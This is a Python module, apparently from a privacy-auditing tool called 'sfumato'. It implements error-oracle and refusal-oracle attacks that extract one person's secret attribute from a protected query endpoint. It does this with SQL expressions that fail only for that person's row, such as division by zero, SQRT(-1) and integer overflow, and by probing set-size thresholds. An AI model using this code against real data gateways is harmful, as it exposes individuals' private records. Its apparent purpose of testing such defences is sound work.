"""Oracles: a refusal or an error that depends on one person's row is an answer without noise and without price.

The error oracle writes a cast that fails for her alone. The refusal oracle fills a set up to one below the size that an
endpoint still answers: whether it answers then is her secret (the peers' gateways fell to the first of these).
"""

from __future__ import annotations

from sfumato.attacks.base import AttackResult, Claim, Endpoint, Knowledge, Person, each, is_over, literal
from sfumato.errors import BudgetError, SfumatoError
from sfumato.types import identifier

_MOST = 200
_TRIED = 5
"""After so many people without a sign there is none."""
_FAILING = (
    "CAST(CASE WHEN {fact} THEN 'x' ELSE '1' END AS INTEGER) >= 0",
    "1 / (CASE WHEN {fact} THEN 0 ELSE 1 END) >= 0",
    "SQRT(CASE WHEN {fact} THEN -1 ELSE 1 END) >= 0",
    "LN(CASE WHEN {fact} THEN 0 ELSE 1 END) >= 0",
    "9223372036854775807 + (CASE WHEN {fact} THEN 1 ELSE 0 END) > 0",
)


def run(endpoint: Endpoint, knowledge: Knowledge) -> AttackResult:
    """Errors first, then refusals."""
    endpoint.share(10 * _MOST)
    try:
        for form in _FAILING:
            if _outcome(endpoint, knowledge, form.format(fact="1 = 1")) == _outcome(
                endpoint, knowledge, form.format(fact="1 = 0")
            ):
                continue
            found = _read(endpoint, knowledge, form)
            if found.claims:
                return found
        return _refusals(endpoint, knowledge)
    except BudgetError:
        return AttackResult(reason="the budget was spent before an oracle was found")


def _outcome(endpoint: Endpoint, knowledge: Knowledge, where: str) -> str:
    """What kind of reply came: an answer, or which error. A refusal for the text is the same for both facts."""
    try:
        endpoint.ask(knowledge.count(where))
    except SfumatoError as error:
        if is_over(error):
            raise
        return error.sqlstate
    return "answered"


def _facts(knowledge: Knowledge, one: Person) -> tuple[str, str]:
    """She has the secret; she has not."""
    return f"{one.where} AND {knowledge.secret}", f"{one.where} AND NOT ({knowledge.secret})"


def _read(endpoint: Endpoint, knowledge: Knowledge, form: str) -> AttackResult:
    """One of two questions fails for her: which one, is her secret. Where both fare alike, nothing is claimed."""
    claims = []
    for i, one in each(knowledge.people, _MOST):
        has, has_not = (_outcome(endpoint, knowledge, form.format(fact=fact)) for fact in _facts(knowledge, one))
        if has != has_not and "answered" in (has, has_not):
            claims.append(Claim(i, has != "answered", certain=True))
        if i == _TRIED and not claims:
            break
    worst = tuple(asked.sql for asked in endpoint.log[-3:])
    return AttackResult(tuple(claims), reason="an error reveals the secret", worst=worst)


def _refusals(endpoint: Endpoint, knowledge: Knowledge) -> AttackResult:
    """Find the least size of a set of named people that is answered, then ask for one less and perhaps her."""
    size = _least_answered(endpoint, knowledge)
    if size is None:
        return AttackResult(reason="no error and no refusal depends on the data")
    claims = []
    for i, one in each(knowledge.people, _MOST):
        others = [p for j, p in enumerate(knowledge.people) if j != i][: size - 1]
        few = _any(knowledge, others)
        has, has_not = (_outcome(endpoint, knowledge, f"{few} OR ({fact})") for fact in _facts(knowledge, one))
        if has != has_not and "answered" in (has, has_not):
            claims.append(Claim(i, has == "answered", certain=True))
        if i == _TRIED and not claims:
            break
    if not claims:
        return AttackResult(reason="refusals do not depend on one person")
    worst = tuple(asked.sql for asked in endpoint.log[-3:])
    return AttackResult(tuple(claims), reason="a refusal reveals the secret", worst=worst)


def _least_answered(endpoint: Endpoint, knowledge: Knowledge) -> int | None:
    for size in range(1, min(60, len(knowledge.people) - 1)):
        if _outcome(endpoint, knowledge, _any(knowledge, list(knowledge.people[:size]))) == "answered":
            return size if size > 1 else None
    return None


def _any(knowledge: Knowledge, people: list[Person]) -> str:
    if knowledge.key is not None:
        values = ", ".join(literal(p.known[knowledge.key]) for p in people)
        return f"{identifier(knowledge.key)} IN ({values})"
    return " OR ".join(f"({p.where})" for p in people) or "1 = 0"
